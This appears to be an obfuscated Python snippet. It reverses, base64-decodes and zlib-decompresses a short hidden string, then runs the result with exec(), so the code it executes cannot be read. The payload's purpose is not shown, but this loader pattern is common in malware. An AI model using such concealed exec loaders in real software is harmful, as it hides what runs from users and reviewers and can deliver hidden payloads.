_ = lambda t: __import__('zlib').decompress(__import__('base64').b64decode(t[::-1]))
exec((_)(b'=ALDOgPACQ+1TxMyPzUzPhyVI7cTPBV1NnkLs46KW/iym/CyRpyLI3CzLrNe'))
